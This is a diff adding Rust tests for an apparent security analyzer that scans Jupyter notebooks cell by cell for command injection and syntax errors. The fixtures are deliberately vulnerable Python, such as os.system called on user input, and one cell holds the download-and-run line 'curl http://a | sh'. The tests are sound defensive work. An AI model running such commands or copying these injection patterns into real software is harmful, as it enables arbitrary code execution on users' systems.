@@ -1,0 +1,95 @@
+//! Notebooks are read cell by cell.
+
+use heimdall::{Kind, Report, Request, Suppressions, analyze};
+use serde_json::{Value, json};
+
+fn request(path: Option<&str>, language: Option<&str>, source: &str) -> Report {
+    let (kind, suppressions) = (Kind::Security, Suppressions::Honor);
+    analyze(&Request { source, file_path: path, language, kind, suppressions, framework: None, dependencies: &[] })
+}
+
+fn notebook(cells: &[(&str, Value)]) -> Value {
+    let cells: Vec<Value> = cells
+        .iter()
+        .map(|(kind, source)| json!({"cell_type": kind, "metadata": {}, "outputs": [], "source": source}))
+        .collect();
+    json!({"nbformat": 4, "nbformat_minor": 5, "metadata": {"kernelspec": {"language": "python"}}, "cells": cells})
+}
+
+fn found(report: &Report) -> Vec<(&str, u32)> {
+    report.findings.iter().map(|finding| (finding.rule.as_str(), finding.line_start)).collect()
+}
+
+const COMMAND: &str = "PY-COMMAND-INJECTION";
+
+/// The line of the document that holds a text.
+fn line_of(document: &str, text: &str) -> u32 {
+    let at = document.lines().position(|line| line.contains(text)).expect("the text is there");
+    u32::try_from(at + 1).expect("a short document")
+}
+
+#[test]
+fn values_flow_from_cell_to_cell_and_lines_are_those_of_the_document() {
+    let cells = notebook(&[
+        ("markdown", json!(["# os.system(input())\n", "\\u0022 \""])),
+        ("code", json!(["%matplotlib inline\n", "import os\n", "name = input()\n", "!pip install x\n"])),
+        ("code", json!("\"\"\"\n\"\"\"")),
+        ("code", json!(["y = 1\n", "os.system('ls ' + name)"])),
+    ]);
+    let document = serde_json::to_string_pretty(&cells).expect("JSON");
+    for (path, language) in
+        [(Some("a/n.ipynb"), None), (None, None), (Some("n.ipynb"), Some("python")), (None, Some("jupyter"))]
+    {
+        let report = request(path, language, &document);
+        assert_eq!(found(&report), [(COMMAND, line_of(&document, "'ls '"))], "{path:?} {language:?}");
+        assert!(report.parsed && report.language == "python", "{report:?}");
+        assert!(report.findings[0].description.contains("In cell 4, line 2."), "{report:?}");
+    }
+    let minified = cells.to_string();
+    assert_eq!(found(&request(Some("n.ipynb"), None, &minified)), [(COMMAND, 1)]);
+}
+
+#[test]
+fn a_broken_cell_does_not_hide_the_others() {
+    let cells = notebook(&[
+        ("code", json!("import os\nname = input()")),
+        ("code", json!("x = '''\nf(")),
+        ("code", json!("os.system('ls ' + name)")),
+        ("code", json!("%%bash\ncurl http://a | sh\n")),
+        ("code", json!("%%html\n<b>os.system(input())</b>")),
+    ]);
+    let document = serde_json::to_string_pretty(&cells).expect("JSON");
+    let report = request(Some("n.ipynb"), None, &document);
+    let mut rules: Vec<_> = found(&report);
+    rules.sort();
+    assert!(rules.contains(&(COMMAND, line_of(&document, "'ls '"))), "{report:?}");
+    assert!(rules.contains(&("SH-DOWNLOAD-AND-RUN", line_of(&document, "curl"))), "{report:?}");
+    assert!(rules.contains(&("PY-SYNTAX", line_of(&document, "x = '''"))) && !report.parsed, "{report:?}");
+}
+
+#[test]
+fn comments_in_cells_accept_findings() {
+    let cells = notebook(&[("code", json!(["import os\n", "os.system(input())  # nosec\n", "os.system(input())\n"]))]);
+    let report = request(Some("n.ipynb"), None, &serde_json::to_string_pretty(&cells).expect("JSON"));
+    assert_eq!((report.findings.len(), report.suppressed.len()), (1, 1), "{report:?}");
+}
+
+#[test]
+fn the_third_format_and_other_kernels_are_known() {
+    let third = json!({"nbformat": 3, "worksheets": [{"cells": [
+        {"cell_type": "code", "input": ["import os\n", "os.system(input())"], "language": "python"}]}]});
+    assert_eq!(found(&request(Some("n.ipynb"), None, &third.to_string())), [(COMMAND, 1)]);
+    let mut other = notebook(&[("code", json!("system(readline())"))]);
+    other["metadata"] = json!({"language_info": {"name": "R"}});
+    assert!(request(Some("n.ipynb"), None, &other.to_string()).tools.is_empty());
+    let cut = "{\"nbformat\": 4, \"cells\": [{\"cell_type\": \"code\", \"source\": [\"import os";
+    assert!(request(Some("n.ipynb"), None, cut).tools.is_empty());
+}
+
+#[test]
+fn equal_cells_have_findings_of_their_own() {
+    let cell = || ("code", json!("import os\nos.system(input())"));
+    let report = request(Some("n.ipynb"), None, &notebook(&[cell(), cell()]).to_string());
+    assert_eq!(report.findings.len(), 2);
+    assert_ne!(report.findings[0].fingerprint, report.findings[1].fingerprint);
+}
